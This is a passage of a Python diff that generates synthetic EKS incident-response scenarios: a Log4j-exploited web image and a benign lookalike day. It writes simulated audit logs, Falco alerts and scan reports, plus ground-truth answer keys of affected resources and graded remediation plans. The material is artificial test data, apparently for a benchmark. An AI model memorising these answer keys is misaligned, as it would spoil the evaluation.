+            "CloudTrail ecr:PutImage at 09:11:48 pushed the digest the new pods run",
+            "Falco k8s.pod.name / container.id, GuardDuty kubernetesWorkloadDetails and containerDetails -> the pod -> ReplicaSet -> Deployment customer-portal, container portal",
+            f"the audit user {uname} with user.extra pod-name = the exploited pod, from its address {C['pod_ip']}, user agent curl (the app's own reads: fabric8 client)",
+        ],
+        "benign_lookalikes": [
+            f"report-worker runs {C['rw_image']} with HIGH findings (snakeyaml CVE-2022-1471, guava CVE-2023-2976), no exploit available, no runtime alert: not in the incident",
+            f"Trivy's report of {C['image']} at {C['digest_old']}: the same repository and tag, an older digest no workload runs (CVE-2022-42889 is not in what runs)",
+            "the app's own ConfigMap reads with the same service account from the same pod addresses",
+            "the release pipeline's push and rollout restart",
+            "the two other replicas run the same vulnerable image and show no exploitation",
+        ],
+        "steps": VW_STEPS,
+    }
+    img_attrs = {"joined_by": "digest", "exploited": "true", "digest": C["digest"], "max_severity": "CRITICAL",
+                 "exploit_available": "CVE-2021-44228", "vulnerabilities": "CVE-2021-44228,CVE-2021-45046,CVE-2023-0286",
+                 "scanner": "Amazon Inspector", "containers": f"Deployment:{ns}/{dep}/{C['container']}",
+                 "workloads": f"Deployment:{ns}/{dep}*", "fixes": "*log4j-core 2.14.1 -> *CVE-2021-44228*",
+                 "record": "*inspector/list-findings.json:*"}
+    set_image = ["kubectl", "set", "image", f"deployment/{dep}", f"{C['container']}=*"]
+    expect = {
+        "pending": True,
+        "severity": "Critical",
+        "criteria": ["critical.active_exploitation", "medium.vulnerable_component", "high.unusual_network"],
+        "criteria_not": ["critical.cluster_admin", "critical.multiple_nodes", "critical.data_exfiltration", "high.privileged_pods"],
+        "affected": [
+            {"kind": "image", "name": C["image"], "attributes": img_attrs,
+             "why": "the exploited pod runs it; joined to Inspector's findings by the digest the kubelet reports"},
+            {"kind": "pod", "name": pod, "namespace": ns, "attributes": {"node": A.name}},
+            {"kind": "workload", "name": dep, "namespace": ns, "attributes": {"kind": "Deployment"}},
+            {"kind": "node", "name": A.name},
+            {"kind": "instance", "name": A.instance},
+            {"kind": "service_account", "name": C["sa"], "namespace": ns},
+            {"kind": "ip", "name": C["attacker_ip"]},
+        ],
+        "not_affected": [
+            {"kind": "image", "name": C["rw_image"], "why": "HIGH findings, no exploit, no runtime alert: not a workload of the incident"},
+            {"kind": "image", "name": C["rw_digest"]},
+            {"kind": "image", "name": C["digest_old"],
+             "why": "Trivy's report of the same tag before it was pushed again: no pod runs this digest"},
+            {"kind": "workload", "name": C["rw"], "namespace": ns},
+            {"kind": "pod", "name": C["rw_pod"][0], "namespace": ns},
+            {"kind": "node", "name": B_.name}, {"kind": "node", "name": Cn.name},
+            {"kind": "instance", "name": B_.instance}, {"kind": "instance", "name": Cn.instance},
+        ] + [{"kind": "pod", "name": p, "namespace": ns} for p in others],
+        "recover_after": ["contain", "eradicate"],
+        "plan": [
+            {"phase": "contain", "argv": ["kubectl", "apply"], "stdin_contains": ["kind: NetworkPolicy", f"namespace: {ns}"]},
+            {"phase": "eradicate", "argv": ["kubectl", "delete", "pod", pod], "flags": {"--namespace": ns},
+             "why": "its ReplicaSet replaces it; the new pod is as vulnerable until the image is rebuilt"},
+            {"phase": "eradicate", "argv": set_image, "flags": {"--namespace": ns}, "blocked": True, "blocked_contains": "--rebuilt-image",
+             "why": "no rebuilt image was given: the step waits for one and says how to pass it"},
+            {"phase": "eradicate", "argv": set_image, "flags": {"--namespace": ns}, "blocked": True, "blocked_contains": "log4j-core",
+             "why": "the blocking text names the package to upgrade"},
+            {"any_of": [
+                {"phase": "eradicate", "argv": set_image, "flags": {"--namespace": ns}, "blocked": True, "blocked_contains": "2.16.0"},
+                {"phase": "eradicate", "argv": set_image, "flags": {"--namespace": ns}, "blocked": True, "blocked_contains": "2.17.1"}],
+             "why": "the version to rebuild with fixes every counted log4j-core finding: 2.16.0 (CVE-2021-45046), or 2.17.1 (all of them); 2.15.0 alone leaves a CRITICAL one"},
+            {"phase": "recover", "argv": ["kubectl", "rollout", "status", "deployment", dep], "flags": {"--namespace": ns}},
+        ],
+        "plan_not": [
+            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "deployment", dep],
+             "why": "the production Deployment is patched by a rebuilt image, not deleted"},
+            {"phase": "contain|eradicate", "argv": ["kubectl", "set", "image", f"deployment/{C['rw']}"],
+             "why": "report-worker is not in the incident"},
+            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "deployment", C["rw"]]},
+            {"phase": "contain", "argv": ["kubectl", "cordon", B_.name]}, {"phase": "contain", "argv": ["kubectl", "cordon", Cn.name]},
+        ] + [{"phase": "contain|eradicate", "argv": ["kubectl", "delete", "pod", p], "why": "a replica with no sign of exploitation"}
+             for p in others],
+    }
+    counts = finish_truth(out, "vulnerable-web-image", head, files, expect,
+                          ("lookalike-ci-rollout", "lookalike-app-config-reads", "lookalike-report-worker"))
+    return base, files, counts, check(base, os.path.join(out, "vulnerable-web-image.truth.json"), vw_consistency)
+
+
+# =============================================================================================
+# Scenario 8: vulnerable-images-benign (prod-travel, eu-west-3, 2026-05-26)
+# =============================================================================================
+VB = {}
+VB_ADMIN_KUBECTL = "kubectl/v1.32.3 (darwin/arm64) kubernetes/32cc146"
+HPA_UA = "kube-controller-manager/v1.32.2-eks-bc803b4 (linux/amd64) kubernetes/bc803b4/system:serviceaccount:kube-system:horizontal-pod-autoscaler"
+
+
+def vb_world():
+    new_scenario("vulnerable-images-benign", 20260526, "847362915037", "eu-west-3", "prod-travel", "2026-05-26",
+                 ["10.138.100.21", "10.138.101.174"], "5f7b9d1e3a5c7e9b1d3f5a7c9e1b3d5f")
+    VB.clear()
+    C = VB
+    cluster_common(C, "prod-travel", "v1.32.2-eks-bc803b4", "kubelet/v1.32.1-eks-5d632ec (linux/amd64) kubernetes/5d632ec")
+    C["kube_proxy"] = "v1.32.0-minimal-eksbuild.2"
+    C["node_role"], C["node_role_id"] = "prod-travel-node-role", "AROA4TRVLBKGNODEROL3"
+    C["ng"] = "prod-travel-general"
+    C["nodes"] = [Node("ip-10-138-22-57.eu-west-3.compute.internal", "10.138.22.57", "i-0a8c0e2b4d6f81357", "eu-west-3a",
+                       "ASIA4TRVLBKGNODEA1K5", "2026-05-22T02:40:11Z", C["ng"]),
+                  Node("ip-10-138-61-190.eu-west-3.compute.internal", "10.138.61.190", "i-0b9d1f3c5e7a92468", "eu-west-3b",
+                       "ASIA4TRVLBKGNODEB2L6", "2026-05-22T02:40:15Z", C["ng"])]
+    A, B_ = C["nodes"]
+    C["nat"] = "198.51.100.241"
+    C["metrics_server"] = ("metrics-server-6c8d7b9f5-t5v9x", A, "10.138.22.120")
+    C["coredns_rs"] = "7b9c8d6f54"
+    C["vpc"], C["cluster_sg"] = "vpc-0c6e8a0b2d4f13579", "sg-0d7f9b1c3e5a24680"
+    C["subnets"] = {"eu-west-3a": "subnet-0e8a0c2d4f6b13579", "eu-west-3b": "subnet-0f9b1d3e5a7c2468b"}
+    C["endpoint"] = "https://D5F7B9C1E3A5C7E9B1D3F5A7C9E1B3D5.gr7.eu-west-3.eks.amazonaws.com"
+    C["oidc"] = "D5F7B9C1E3A5C7E9B1D3F5A7C9E1B3D5"
+    C["created"] = "2025-08-19T07:52:30.118000+00:00"
+    C["ecr"] = ecr = f"{S().account}.dkr.ecr.{S().region}.amazonaws.com"
+    C["ns"] = "booking"
+    C["api"], C["api_repo"] = "booking-api", "booking/booking-api"
+    C["api_image_old"], C["api_image"] = f"{ecr}/booking/booking-api:2026.05.21-2", f"{ecr}/booking/booking-api:2026.05.26-1"
+    C["api_digest_old"], C["api_digest"] = image_digest("booking-api:2026.05.21-2"), image_digest("booking-api:2026.05.26-1")
+    C["search"], C["search_repo"] = "search-api", "booking/search-api"
+    C["search_image"], C["search_digest"] = f"{ecr}/booking/search-api:2026.05.20-4", image_digest("search-api:2026.05.20-4")
+    C["pricing_repo"] = "booking/pricing-batch"
+    C["pricing_image"], C["pricing_digest"] = f"{ecr}/booking/pricing-batch:0.9.4", image_digest("pricing-batch:0.9.4")
+    # the log shipper is baked into the node AMI (imported into containerd, imagePullPolicy Never): no registry digest
+    C["ls"], C["ls_ns"] = "log-shipper", "logging"
+    C["ls_image"] = f"{ecr}/platform/log-shipper:3.0.7"   # built and tagged by the AMI pipeline, saved into the AMI, never pushed
+    C["ls_image_id"] = "sha256:" + sha("config/log-shipper:3.0.7")
+    C["rs_old"], C["rs_new"], C["search_rs"] = "5b7d9c8f46", "68c9d7b5f4", "7d5f9b8c63"
+    C["api_pods_old"] = [(f"booking-api-{C['rs_old']}-{M.suffix('bo' + str(i))}", n) for i, n in enumerate((A, B_))]
+    C["api_pods"] = [(f"booking-api-{C['rs_new']}-{M.suffix('bn' + str(i))}", n, n.prefix + str(70 + 41 * i)) for i, n in enumerate((A, B_))]
+    C["search_pods"] = [(f"search-api-{C['search_rs']}-{M.suffix('sa' + str(i))}", n, n.prefix + str(90 + 29 * i))
+                        for i, n in enumerate((A, B_, A))]   # the third: the autoscaler's, 12:31 to 18:40
+    C["ls_pods_old"] = [(f"log-shipper-{M.suffix('lso' + str(i))}", n) for i, n in enumerate((A, B_))]
+    C["ls_pods"] = [(f"log-shipper-{M.suffix('lsn' + str(i))}", n) for i, n in enumerate((A, B_))]
+    C["gha_role"], C["gha_role_id"] = "github-actions-deploy", "AROA4TRVLBKGGHADEPL5"
+    C["admin_role"], C["admin_role_id"] = "platform-admin", "AROA4TRVLBKGPLATADM7"
+    C["admin_session"], C["admin_key"] = "lea.moreau@example.com", "ASIA4TRVLBKGLEAMR3Q8"
+    C["runner_ip"], C["office_ip"] = "198.51.100.245", "192.0.2.140"
+    C["snap"] = T("23:10:00")
+
+
+def vb_api_containers(image):
+    return [{"name": "booking-api", "image": image, "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
+             "resources": {"requests": {"cpu": "300m", "memory": "384Mi"}},
+             "securityContext": {"runAsUser": 65532, "runAsNonRoot": True, "allowPrivilegeEscalation": False}}]
+
+
+def vb_search_containers():
+    return [{"name": "search-api", "image": VB["search_image"], "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
+             "resources": {"requests": {"cpu": "500m", "memory": "512Mi"}},
+             "securityContext": {"runAsUser": 65532, "runAsNonRoot": True, "allowPrivilegeEscalation": False}}]
+
+
+def vb_ls_containers():
+    return [{"name": "log-shipper", "image": VB["ls_image"], "imagePullPolicy": "Never",
+             "resources": {"requests": {"cpu": "50m", "memory": "96Mi"}},
+             "volumeMounts": [{"name": "varlog", "mountPath": "/var/log", "readOnly": True}]}]
+
+
+def vb_day():
+    C = VB
+    ns, api = C["ns"], C["api"]
+    A, B_ = C["nodes"]
+    # 10:02 the pipeline pushes booking-api 2026.05.26-1 (ECR scans it on push) and sets it on the Deployment
+    t = T("10:01:37")
+    gha_ua = "aws-sdk-js/3.726.1 ua/2.1 os/linux#6.8.0-1021-azure lang/js md/nodejs#20.18.1 api/{}#3.726.1 m/E,e"
+    key = M.web_identity_assume(t, C["gha_role"], C["gha_role_id"], "GitHubActions", GHA_OIDC,
+                                "repo:example-corp/booking-api:ref:refs/heads/main", "sts.amazonaws.com", C["runner_ip"],
+                                gha_ua.format("sts"), "lookalike-ci-rollout")
+    ident = M.id_role(C["gha_role"], C["gha_role_id"], "GitHubActions", key, t,
+                      extra_ctx={"webIdFederationData": {"federatedProvider": f"arn:aws:iam::{S().account}:oidc-provider/{GHA_OIDC}",
+                                                         "attributes": {}}})
+    mt = "application/vnd.docker.distribution.manifest.v2+json"
+    ct(T("10:02:14"), ident, "ecr.amazonaws.com", "PutImage",
+       params={"repositoryName": C["api_repo"], "imageTag": "2026.05.26-1", "imageManifestMediaType": mt, "registryId": S().account},
+       resp={"image": {"registryId": S().account, "repositoryName": C["api_repo"],
+                       "imageId": {"imageDigest": C["api_digest"], "imageTag": "2026.05.26-1"}, "imageManifestMediaType": mt}},
+       ip=C["runner_ip"], ua=gha_ua.format("ecr"), read_only=False, step="lookalike-ci-rollout")
+    ct(T("10:04:51"), ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=C["runner_ip"],
+       ua=gha_ua.format("eks"), step="lookalike-ci-rollout")
+    K = dict(user=u_role("github-actions-deploy", [], S().account, C["gha_role"], C["gha_role_id"], "GitHubActions", key),
+             src=[C["runner_ip"]], ua=VW_CI_KUBECTL,
+             reason=M.policy_reason(f"arn:aws:iam::{S().account}:role/{C['gha_role']}", "github-actions-deploy", "AmazonEKSEditPolicy"),
+             step="lookalike-ci-rollout")
+    dep_uid = stable_uuid(f"Deployment/{ns}/{api}")
+    t = T("10:05:12.331840")
+    audit(t, verb="patch", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{api}?fieldManager=kubectl-set",
+          objref=oref("deployments", ns, api, "apps", uid_=dep_uid), level="RequestResponse",
+          req={"spec": {"template": {"spec": {"containers": [{"image": C["api_image"], "name": api}]}}}},
+          resp={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": api, "namespace": ns, "uid": dep_uid, "generation": 77},
+                "spec": {"replicas": 2, "template": {"spec": {"containers": vb_api_containers(C["api_image"]), "serviceAccountName": api}}}},
+          **K)
+    rs = f"{api}-{C['rs_new']}"
+    labels = {"app.kubernetes.io/name": api, "pod-template-hash": C["rs_new"]}
+    t = later(t, 0, 40, 90)
+    audit(t, u_sa("kube-system", "deployment-controller"), "create", f"/apis/apps/v1/namespaces/{ns}/replicasets",
+          oref("replicasets", ns, rs, "apps"), code=201, level="RequestResponse", ua=kcm_ua(C["server"], "deployment-controller"),
+          req={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": rs, "namespace": ns, "labels": labels,
+                                                                          "ownerReferences": [owner_ref("Deployment", api, ns)]},
+               "spec": {"replicas": 1, "template": {"spec": {"containers": vb_api_containers(C["api_image"])}}}},
+          resp={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": rs, "namespace": ns,
+                                                                           "uid": stable_uuid(f"ReplicaSet/{ns}/{rs}")}},
+          reason=controller_reason("deployment-controller"), step="rollout-controllers")
+    C["started"] = {}
+    for (name, n, ip), (old, _) in zip(C["api_pods"], C["api_pods_old"]):
+        t = later(t, S().rng.randint(2, 4))
+        C["started"][name] = controller_pod(C, t, ns, name, owner_ref("ReplicaSet", rs, ns), n, vb_api_containers(C["api_image"]), api,
+                                            "replicaset-controller", "benign", "rollout-controllers", labels=labels,
+                                            image_ids={api: f"{C['ecr']}/{C['api_repo']}@{C['api_digest']}"}, pod_ip=ip)
+        t = later(C["started"][name], 12)
+        audit(t, u_sa("kube-system", "replicaset-controller"), "delete", f"/api/v1/namespaces/{ns}/pods/{old}", oref("pods", ns, old),
+              ua=kcm_ua(C["server"], "replicaset-controller"), reason=controller_reason("replicaset-controller"), step="rollout-controllers")
+    # 12:31 the HorizontalPodAutoscaler scales search-api from 2 to 3 replicas; at 18:40 back to 2
+    srs = f"{C['search']}-{C['search_rs']}"
+    slabels = {"app.kubernetes.io/name": C["search"], "pod-template-hash": C["search_rs"]}
+    hpa = dict(user=u_sa("kube-system", "horizontal-pod-autoscaler"), ua=HPA_UA,
+               reason=controller_reason("horizontal-pod-autoscaler"), step="autoscaling")
+    for tt, n_ in ((T("12:31:04.228107"), 3), (T("18:40:11.904233"), 2)):
+        audit(tt, verb="update", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{C['search']}/scale",
+              objref=oref("deployments", ns, C["search"], "apps", sub="scale"), level="RequestResponse",
+              req={"kind": "Scale", "apiVersion": "autoscaling/v1", "metadata": {"name": C["search"], "namespace": ns},
+                   "spec": {"replicas": n_}},
+              resp={"kind": "Scale", "apiVersion": "autoscaling/v1", "metadata": {"name": C["search"], "namespace": ns},
+                    "spec": {"replicas": n_}, "status": {"replicas": 5 - n_, "selector": f"app.kubernetes.io/name={C['search']}"}}, **hpa)
+    name, n, ip = C["search_pods"][2]
+    controller_pod(C, later(T("12:31:05.118304"), 0), ns, name, owner_ref("ReplicaSet", srs, ns), n, vb_search_containers(), C["search"],
+                   "replicaset-controller", "benign", "autoscaling", labels=slabels,
+                   image_ids={C["search"]: f"{C['ecr']}/{C['search_repo']}@{C['search_digest']}"}, pod_ip=ip)
+    audit(T("18:40:12.660413"), u_sa("kube-system", "replicaset-controller"), "delete", f"/api/v1/namespaces/{ns}/pods/{name}",
+          oref("pods", ns, name), ua=kcm_ua(C["server"], "replicaset-controller"), reason=controller_reason("replicaset-controller"),
+          step="autoscaling")
+    # 21:10-21:40, the Tuesday maintenance window: the platform admin restarts the log shipper and looks into a booking-api pod
+    aident = M.id_role(C["admin_role"], C["admin_role_id"], C["admin_session"], C["admin_key"], T("21:08:40"))
+    ct(T("21:09:02"), aident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=C["office_ip"],
+       ua=cli_ua("eks.update-kubeconfig", "2.22.4", "3.12.6", "Darwin/24.3.0", "arm64"), step="lookalike-maintenance")
+    uname = f"arn:aws:sts::{S().account}:assumed-role/{C['admin_role']}/{C['admin_session']}"
+    KA = dict(user=u_role(uname, [], S().account, C["admin_role"], C["admin_role_id"], C["admin_session"], C["admin_key"]),
+              src=[C["office_ip"]], ua=VB_ADMIN_KUBECTL, reason=M.policy_reason(f"arn:aws:iam::{S().account}:role/{C['admin_role']}", uname),
+              step="lookalike-maintenance")
+    lns, ls = C["ls_ns"], C["ls"]
+    t = T("21:10:44.402118")
+    audit(t, verb="patch", uri=f"/apis/apps/v1/namespaces/{lns}/daemonsets/{ls}?fieldManager=kubectl-rollout",
+          objref=oref("daemonsets", lns, ls, "apps", uid_=stable_uuid(f"DaemonSet/{lns}/{ls}")), level="RequestResponse",
+          req={"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2026-05-26T21:10:44Z"}}}}},
+          resp={"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": ls, "namespace": lns, "generation": 12},
+                "spec": {"template": {"spec": {"containers": vb_ls_containers(), "serviceAccountName": ls}}}}, **KA)
+    for (name, n), (old, _) in zip(C["ls_pods"], C["ls_pods_old"]):
+        t = later(t, 6)
+        audit(t, u_sa("kube-system", "daemon-set-controller"), "delete", f"/api/v1/namespaces/{lns}/pods/{old}", oref("pods", lns, old),
+              ua=kcm_ua(C["server"], "daemon-set-controller"), reason=controller_reason("daemon-set-controller"), step="lookalike-maintenance")
+        t = later(t, 31)
+        C["started"][name] = controller_pod(C, t, lns, name, owner_ref("DaemonSet", ls, lns), n, vb_ls_containers(), ls,
+                                            "daemon-set-controller", "benign", "lookalike-maintenance",
+                                            labels={"app.kubernetes.io/name": ls, "controller-revision-hash": "84c7d9f6b5"},
+                                            host_network=False, tolerations=[{"operator": "Exists"}],
+                                            image_ids={ls: C["ls_image_id"]}, pod_ip=n.prefix + str(200 + len(name) % 7))
+    # a shell in a booking-api pod to check its configuration (kubectl 1.32: WebSocket, verb get); Falco sees the shell
+    pod, n, _ = C["api_pods"][1]
+    aid = uid()
+    recv, closed = T("21:31:20.118532"), T("21:36:02.440718")
+    uri = f"/api/v1/namespaces/{ns}/pods/{pod}/exec?command=sh&container={api}&stdin=true&stdout=true&tty=true"
+    K2 = {k: v for k, v in KA.items() if k != "step"}
+    for stg, tt in (("ResponseStarted", M.ms(recv, 25, 60)), ("ResponseComplete", closed)):
+        audit(tt, verb="get", uri=uri, objref=oref("pods", ns, pod, sub="exec"), code=101, stage=stg, audit_id=aid, received=recv,
+              step="lookalike-maintenance", **K2)
+    cid = M.container_id(ns, pod, api)[:12]
+    repo, tag = C["api_image"].rsplit(":", 1)
+    falco(later(recv, 0, 300, 700), 455, "Terminal shell in container", "Notice", n.name,
+          ["T1059", "container", "maturity_stable", "mitre_execution", "shell"], "A shell was spawned in a container with an attached terminal",
+          fields=dict(M.container_fields(pod, ns, cid, repo, tag, api), **M.proc_fields("execve", "nonroot", 65532, "sh", "/bin/sh", "runc", "sh", 34816),
+                      **{"evt.arg.flags": "EXE_WRITABLE|EXE_LOWER_LAYER"}),
+          text_fields=M.proc_text("execve", "nonroot", 65532, "sh", "/bin/sh", "runc", "sh", 34816)
+                      + [("exe_flags", "EXE_WRITABLE|EXE_LOWER_LAYER")] + M.container_text(pod, ns, cid, repo, tag, api),
+          label="benign", step="lookalike-maintenance")
+
+
+DEB_CURL = "https://security-tracker.debian.org/tracker/"
+
+
+def vb_scans(base, files):
+    """ECR basic scans (scan on push) of three images, Grype's report of the log shipper from the AMI pipeline."""
+    C = VB
+    v = lambda s, vec: (s, vec)
+    curl = ("CVE-2023-38545", "CRITICAL", "curl", "7.88.1-10+deb12u3",
+            "This flaw makes curl overflow a heap based buffer in the SOCKS5 proxy handshake.", DEB_CURL + "CVE-2023-38545",
+            v(9.8, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"))
+    glibc = ("CVE-2023-4911", "HIGH", "glibc", "2.36-9+deb12u1",
+             "A buffer overflow was discovered in the GNU C Library's dynamic loader ld.so while processing the GLIBC_TUNABLES environment variable.",
+             DEB_CURL + "CVE-2023-4911", v(7.8, "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H"))
+    apt = ("CVE-2011-3374", "INFORMATIONAL", "apt", "2.6.1",
+           "It was found that apt-key in apt, all versions, do not correctly validate gpg keys with the master keyring.",
+           DEB_CURL + "CVE-2011-3374", None)
+    ncurses = ("CVE-2023-50495", "MEDIUM", "ncurses", "6.4-4",
+               "NCurse v6.4-20230418 was discovered to contain a segmentation fault via the component _nc_wrap_entry().",
+               DEB_CURL + "CVE-2023-50495", v(6.5, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H"))
+    util = ("CVE-2022-0563", "LOW", "util-linux", "2.38.1-5+b1",
+            "A flaw was found in the util-linux chfn and chsh utilities when compiled with Readline support.",
+            DEB_CURL + "CVE-2022-0563", v(5.5, "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N"))
+    db = T("00:00:00")
+    for rel, repo, digest, tag, done, fs in (
+            ("ecr/booking-api-2026.05.26-1.json", C["api_repo"], C["api_digest"], "2026.05.26-1", T("10:02:41"), [curl, glibc, apt]),
+            ("ecr/search-api-2026.05.20-4.json", C["search_repo"], C["search_digest"], "2026.05.20-4", T("15:17:09", "2026-05-20"),
+             [ncurses, util, apt]),
+            ("ecr/pricing-batch-0.9.4.json", C["pricing_repo"], C["pricing_digest"], "0.9.4", T("08:44:30", "2026-03-02"),
+             [curl, glibc, ncurses])):
+        write_scan(base, files, rel, ecr_basic_scan(repo, digest, tag, done, db if done.date() == db.date() else done.replace(hour=0, minute=0, second=0), fs),
+                   len(fs))
+    go = "/usr/local/bin/log-shipper"
+    matches = [
+        grype_match("CVE-2024-45337", "Critical", "golang.org/x/crypto", "v0.28.0", "go-module", go, ["0.31.0"], "fixed",
+                    "Applications and libraries which misuse the ServerConfig.PublicKeyCallback callback may be susceptible to an authorization bypass.",
+                    "github:language:go", v(9.1, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N"), language="go"),
+        grype_match("CVE-2023-45288", "High", "golang.org/x/net", "v0.19.0", "go-module", go, ["0.23.0"], "fixed",
+                    "An attacker may cause an HTTP/2 endpoint to read arbitrary amounts of header data by sending an excessive number of CONTINUATION frames.",
+                    "github:language:go", v(7.5, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H"), language="go"),
+        grype_match("CVE-2011-3374", "Negligible", "apt", "2.6.1", "deb", "/var/lib/dpkg/status", [], "wont-fix",
+                    "It was found that apt-key in apt, all versions, do not correctly validate gpg keys with the master keyring.",
+                    "debian:distro:debian:12"),
+    ]
+    # scanned in the AMI build's docker daemon before the image was imported into the AMI: never pushed, no repository digest
+    write_scan(base, files, "grype/log-shipper-3.0.7.json",
+               grype_report(C["ls_image"], C["ls_image_id"], matches, "2026-05-21T23:12:48.402117+00:00"), len(matches), indent=1)
+
+
+def vb_snapshot():
+    C = VB
+    A, B_ = C["nodes"]
+    ns, api = C["ns"], C["api"]
+    pods = system_pod_objects(C, T("02:41:30", "2026-05-22"), ["10.138.22.40", "10.138.61.66"])
+    labels = {"app.kubernetes.io/name": api, "pod-template-hash": C["rs_new"]}
+    for name, n, ip in C["api_pods"]:
+        p = M.make_pod(name, ns, C["started"][name] - timedelta(seconds=5), vb_api_containers(C["api_image"]), n, ip, labels=labels,
+                       owner_ref=owner_ref("ReplicaSet", f"{api}-{C['rs_new']}", ns), sa=api, generate_name=f"{api}-{C['rs_new']}-")
+        p["status"]["containerStatuses"][0]["imageID"] = f"{C['ecr']}/{C['api_repo']}@{C['api_digest']}"
+        pods.append(p)
+    slabels = {"app.kubernetes.io/name": C["search"], "pod-template-hash": C["search_rs"]}
+    for name, n, ip in C["search_pods"][:2]:
+        p = M.make_pod(name, ns, T("15:22:40", "2026-05-20"), vb_search_containers(), n, ip, labels=slabels,
+                       owner_ref=owner_ref("ReplicaSet", f"{C['search']}-{C['search_rs']}", ns), sa=C["search"],
+                       generate_name=f"{C['search']}-{C['search_rs']}-")
+        p["status"]["containerStatuses"][0]["imageID"] = f"{C['ecr']}/{C['search_repo']}@{C['search_digest']}"
+        pods.append(p)
+    for name, n in C["ls_pods"]:
+        p = M.make_pod(name, C["ls_ns"], C["started"][name] - timedelta(seconds=5), vb_ls_containers(), n, n.prefix + str(200 + len(name) % 7),
+                       labels={"app.kubernetes.io/name": C["ls"], "controller-revision-hash": "84c7d9f6b5"},
+                       owner_ref=owner_ref("DaemonSet", C["ls"], C["ls_ns"]), sa=C["ls"], generate_name=C["ls"] + "-",
+                       volumes=[{"name": "varlog", "hostPath": {"path": "/var/log", "type": ""}}], tolerations=[{"operator": "Exists"}])
+        p["spec"]["containers"][0]["imagePullPolicy"] = "Never"
+        p["status"]["containerStatuses"][0]["imageID"] = C["ls_image_id"]
+        pods.append(p)
+    pods.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))
+    tl = {"app.kubernetes.io/name": api}
+    d1 = M.deployment(api, ns, "2025-08-21T09:12:40Z", 2, tl, tl, vb_api_containers(C["api_image"]), api, C["rs_new"], 77)
+    d1["metadata"]["uid"] = stable_uuid(f"Deployment/{ns}/{api}")
+    stl = {"app.kubernetes.io/name": C["search"]}
+    d2 = M.deployment(C["search"], ns, "2025-08-21T09:14:02Z", 2, stl, stl, vb_search_containers(), C["search"], C["search_rs"], 40)
+    d2["metadata"]["uid"] = stable_uuid(f"Deployment/{ns}/{C['search']}")
+    rss = []
+    for d, h, cont, n_, rev, created, lab in ((api, C["rs_old"], vb_api_containers(C["api_image_old"]), 0, 76, "2026-05-21T14:30:12Z", tl),
+                                              (api, C["rs_new"], vb_api_containers(C["api_image"]), 2, 77, "2026-05-26T10:05:12Z", tl),
+                                              (C["search"], C["search_rs"], vb_search_containers(), 2, 40, "2026-05-20T15:22:38Z", stl)):
+        rs = M.replicaset(d, ns, h, created, n_, lab, cont, d, rev)
+        rs["metadata"]["uid"] = stable_uuid(f"ReplicaSet/{ns}/{d}-{h}")
+        rs["metadata"]["ownerReferences"] = [owner_ref("Deployment", d, ns)]
+        rss.append(rs)
+    ll = {"app.kubernetes.io/name": C["ls"]}
+    ds = {"apiVersion": "apps/v1", "kind": "DaemonSet",
+          "metadata": meta(C["ls"], C["ls_ns"], "2025-08-20T11:02:19Z", ll, {"deprecated.daemonset.template.generation": "12"},
+                           extra={"uid": stable_uuid(f"DaemonSet/{C['ls_ns']}/{C['ls']}"), "generation": 12}),
+          "spec": {"selector": {"matchLabels": ll},
+                   "template": {"metadata": {"labels": ll, "annotations": {"kubectl.kubernetes.io/restartedAt": "2026-05-26T21:10:44Z"}},
+                                "spec": {"containers": vb_ls_containers(), "serviceAccountName": C["ls"], "tolerations": [{"operator": "Exists"}],
+                                         "volumes": [{"name": "varlog", "hostPath": {"path": "/var/log"}}]}},
+                   "updateStrategy": {"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": 1, "maxSurge": 0}}},
+          "status": {"currentNumberScheduled": 2, "desiredNumberScheduled": 2, "numberAvailable": 2, "numberReady": 2,
+                     "updatedNumberScheduled": 2, "observedGeneration": 12, "numberMisscheduled": 0}}
+    nodes = [M.node_object(n, "euw3-az" + str(i + 1), C["snap"], "v1.32.1-eks-5d632ec", "ami-0b3d5f7a9c1e24680") for i, n in enumerate(C["nodes"])]
+    sas = system_serviceaccounts("2025-08-19T08:01:12Z") + [M.serviceaccount(n_, ns, "2025-08-21T09:12:38Z") for n_ in (api, C["search"], "default")] \
+        + [M.serviceaccount(C["ls"], C["ls_ns"], "2025-08-20T11:02:17Z")]
+    crbs = M.system_crbs("2025-08-19T08:01:12Z") + [metrics_server_crb("2025-08-19T08:09:51Z")]
+    crbs.sort(key=lambda o: o["metadata"]["name"])
+    return {"pods.json": k8s_list(pods), "nodes.json": k8s_list(nodes), "deployments.json": k8s_list([d1, d2]),
+            "replicasets.json": k8s_list(rss), "daemonsets.json": k8s_list([ds]), "serviceaccounts.json": k8s_list(sas),
+            "clusterrolebindings.json": k8s_list(crbs),
+            "eks-describe-cluster.json": describe_cluster(C, "1.32", "eks.9", ["192.0.2.128/26", "198.51.100.240/28"],
+                                                          ["api", "audit", "authenticator"], tags={"env": "production", "team": "booking"})}
+
+
+VB_STEPS = {
+    "lookalike-ci-rollout": "benign: the pipeline (GitHub Actions, role github-actions-deploy) pushes booking-api 2026.05.26-1 (ECR scans it on push: a CRITICAL and a HIGH finding) and sets it on the Deployment (kubectl set image)",
